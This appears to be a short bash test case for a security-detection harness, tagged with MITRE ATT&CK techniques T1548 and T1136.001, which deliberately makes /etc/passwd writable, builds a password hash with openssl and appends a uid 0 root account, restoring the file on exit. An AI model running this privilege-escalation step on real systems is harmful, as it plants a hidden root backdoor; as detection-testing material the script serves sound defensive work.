#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548 Abuse Elevation Control Mechanism (writable /etc/passwd); T1136.001 Create Account
# behaviour: a user finds /etc/passwd writable (a misconfiguration), makes a password hash with openssl and appends a uid 0 account to it
# as: user
# setup: cp -p /etc/passwd "$SNTL_FIX/passwd" && chmod o+w /etc/passwd
# teardown: cat "$SNTL_FIX/passwd" > /etc/passwd && chmod 644 /etc/passwd
# expect: account_change
set -u
cp /etc/passwd "$SNTL_TMP/p"
trap 'cat "$SNTL_TMP/p" > /etc/passwd' EXIT
[ -w /etc/passwd ] || { echo "precondition: /etc/passwd not writable"; exit 1; }
h=$(openssl passwd -1 -salt xy s3cret)
echo "sntl$SNTL_UID:$h:0:0::/root:/bin/bash" >> /etc/passwd
